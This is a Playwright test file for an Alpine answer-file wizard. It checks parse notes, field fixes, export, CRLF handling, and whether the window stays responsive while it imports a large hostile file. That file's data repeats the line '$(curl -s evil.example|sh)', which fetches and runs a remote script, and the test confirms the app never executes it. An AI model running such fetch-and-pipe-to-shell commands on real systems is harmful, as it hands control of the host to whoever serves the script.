import type { Page } from '@playwright/test';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from '../../shared/answerfile';
import { AppPage } from '../pages/app-page';
import { ImportDialog } from '../pages/import-dialog';
import { ProfileBar } from '../pages/profile-bar';
import { WizardPage } from '../pages/wizard-page';
import { HAND_WRITTEN, WINDOWS_SAVED, ZONE_LINE } from './answer-files';
import { expect, test } from './fixtures';

test('a pasted answer file with a split time zone leads to the field, is fixed in the form, and exports exactly the preview', async ({ page, backend, files }) => {
  const app = new AppPage(page);
  const wizard = new WizardPage(page);
  const importer = new ImportDialog(page);
  await app.open(backend.url);

  // Paste the file and import it.
  await importer.open();
  await importer.paste(HAND_WRITTEN);
  const report = await importer.importIt();
  await expect(report.getByRole('heading')).toHaveText('Imported from pasted text: 1 note');
  const zoneNote = importer.line(ZONE_LINE);
  await expect(zoneNote).toContainText('TIMEZONEOPTS is split at spaces by setup-alpine');
  await expect(zoneNote).toContainText('"America/New"');

  // The note's link opens the Time zone step with the field focused and marked wrong.
  await zoneNote.getByRole('button', { name: `Go to Time zone (line ${ZONE_LINE})` }).click();
  const zoneStep = await wizard.expectStep('Time zone');
  const zone = zoneStep.getByRole('combobox', { name: 'Time zone' });
  await expect(zone).toBeFocused();
  await expect(zone).toHaveAttribute('aria-invalid', 'true');
  await expect(zoneStep).toContainText('"America/New York" is not a time zone Alpine knows');
  await expect(wizard.stepButton('Time zone')).toHaveAccessibleName(/has errors/);

  // Fix it in the form.
  await wizard.pickFromList(zoneStep, 'Time zone', 'new_york', 'America/New_York');
  await expect(zone).not.toHaveAttribute('aria-invalid', 'true');
  await expect(wizard.stepButton('Time zone')).not.toHaveAccessibleName(/has errors/);
  const preview = await wizard.preview();
  expect(preview).toContain('TIMEZONEOPTS=America/New_York\n');
  expect(preview).toContain('HOSTNAMEOPTS=office-box\n');

  // Export: the native save dialog (a stand-in) "chooses" a path; the real handler writes there.
  const exported = join(files, 'office.answers');
  backend.dialogs.answer({ save: exported });
  await page.getByRole('button', { name: 'Save as file…' }).click();
  // The status names the suggested file; the file at the chosen path is checked below.
  await expect(app.status).toHaveText(/^Answer file saved as /);
  expect(await readFile(exported, 'utf8')).toBe(preview);
  expect(backend.dialogs.shown()).toEqual([
    { kind: 'save', options: { defaultPath: 'office-box.answers', filters: [{ name: 'Answer files', extensions: ['answers', 'txt', 'conf'] }] } },
  ]);
  expect(backend.payloadsOf('files:save-text')).toEqual([
    { suggestedName: 'office-box.answers', text: preview, filters: [{ name: 'Answer files', extensions: ['answers', 'txt', 'conf'] }] },
  ]);
});

test('an answer file saved on Windows and opened from disk is read with its line endings noted, and the profile is named after the file', async ({ page, backend, files }) => {
  const app = new AppPage(page);
  const wizard = new WizardPage(page);
  const importer = new ImportDialog(page);
  const bar = new ProfileBar(page);
  const windowsFile = join(files, 'lab.answers');
  await writeFile(windowsFile, WINDOWS_SAVED);
  backend.dialogs.answer({ open: windowsFile });
  await app.open(backend.url);

  await importer.open();
  await importer.dialog.getByRole('button', { name: 'Choose a file…' }).click();
  await expect(importer.dialog.getByRole('textbox', { name: 'Pasted answer file (from lab.answers)' })).not.toHaveValue('');
  const report = await importer.importIt();

  await expect(report.getByRole('heading')).toHaveText('Imported from lab.answers: 2 notes');
  await expect(importer.line(1)).toContainText('Windows (CRLF) line endings');
  await expect(importer.line(ZONE_LINE)).toContainText('TIMEZONEOPTS is split at spaces');
  await expect(bar.name).toHaveValue('lab');
  await expect(bar.saveState).toHaveText('Unsaved changes');

  // The hostname's underscore is not a parse note but a wizard error, shown on its step.
  await expect(wizard.stepButton('Hostname')).toHaveAccessibleName(/has errors/);
  const hostnameStep = await wizard.goToStep('Hostname');
  const hostname = hostnameStep.getByRole('textbox', { name: 'Hostname' });
  await expect(hostname).toHaveValue('lab_1');
  await expect(hostname).toHaveAttribute('aria-invalid', 'true');
  await hostname.fill('lab-1');
  await expect(hostname).not.toHaveAttribute('aria-invalid', 'true');

  const preview = await wizard.preview();
  expect(preview).toContain('HOSTNAMEOPTS=lab-1\n');
  expect(preview).not.toContain('\r');
  expect(backend.dialogs.shown()).toEqual([{ kind: 'open', options: { filters: [{ name: 'Answer files', extensions: ['answers', 'txt', 'conf'] }], properties: ['openFile'] } }]);
});

/** Starts a 20 ms timer in the page that records how late it ever fires: how long the window's thread was busy. */
async function startLagProbe(page: Page): Promise<() => Promise<{ worstMs: number; ticks: number }>> {
  await page.evaluate(() => {
    const probe = { worstMs: 0, ticks: 0 };
    Object.assign(window, { __lagProbe: probe });
    let due = performance.now() + 20;
    const tick = () => {
      const now = performance.now();
      probe.worstMs = Math.max(probe.worstMs, now - due);
      probe.ticks += 1;
      due = now + 20;
      setTimeout(tick, 20);
    };
    setTimeout(tick, 20);
  });
  return () => page.evaluate(() => (window as unknown as { __lagProbe: { worstMs: number; ticks: number } }).__lagProbe);
}

test('a 10 MB hostile answer file is read while the window stays responsive, can be cancelled, and lists its first 200 notes', async ({ page, backend, files }) => {
  test.setTimeout(120_000);
  const app = new AppPage(page);
  const importer = new ImportDialog(page);
  const wizard = new WizardPage(page);
  // Just under the 10 MB the app opens: a hostname, then 1.1 million lines that try to run commands.
  const text = `HOSTNAMEOPTS="-n big-box"\n${'$(curl -s evil.example|sh)\n'.repeat(120_000)}${'reboot\n'.repeat(1_000_000)}`;
  const hostile = join(files, 'hostile.answers');
  await writeFile(hostile, text);
  const total = parse(text).diagnostics.length;
  expect(total).toBeGreaterThan(1_000_000);
  await app.open(backend.url);

  const choose = async () => {
    backend.dialogs.answer({ open: hostile });
    await importer.open();
    await importer.dialog.getByRole('button', { name: 'Choose a file…' }).click();
    // Too large to lay out in the text box: the dialog says so instead of showing it.
    const box = importer.dialog.getByRole('textbox', { name: 'Pasted answer file (from hostile.answers)' });
    await expect(box).toHaveAccessibleDescription(/^hostile\.answers \(10\.2 MB\) is too large to show here; Import reads all of it\./);
    await expect(box).toHaveValue('');
  };

  // The first try is cancelled while the file is being read: the dialog answers at once and nothing is imported.
  await choose();
  await importer.dialog.getByRole('button', { name: 'Import', exact: true }).click();
  await expect(importer.dialog.getByRole('status')).toHaveText('Reading the answer file…');
  await importer.dialog.getByRole('button', { name: 'Cancel' }).click();
  await expect(importer.dialog).toBeHidden();
  await expect(importer.report).toBeHidden();

  // The second is read to the end; meanwhile the window's thread is never busy for long.
  await choose();
  const lag = await startLagProbe(page);
  await importer.dialog.getByRole('button', { name: 'Import', exact: true }).click();
  await expect(importer.dialog.getByRole('status')).toHaveText('Reading the answer file…');
  await expect(importer.dialog).toBeHidden({ timeout: 60_000 });
  const report = importer.report;
  await expect(report.getByRole('heading')).toHaveText(`Imported from hostile.answers: ${total.toLocaleString('en')} notes`);
  await expect(report.getByRole('listitem')).toHaveCount(200);
  await expect(report).toContainText(`…and ${(total - 200).toLocaleString('en')} more not listed.`);
  await expect(importer.line(2).first()).toContainText('Cairn never runs commands from an answer file');
  const { worstMs, ticks } = await lag();
  console.log(`import of ${(text.length / 1e6).toFixed(1)} MB: ${total} notes, the page's timer fired ${ticks} times, at worst ${Math.round(worstMs)} ms late`);
  expect(worstMs).toBeLessThan(500);

  const hostnameStep = await wizard.goToStep('Hostname');
  await expect(hostnameStep.getByRole('textbox', { name: 'Hostname' })).toHaveValue('big-box');
});
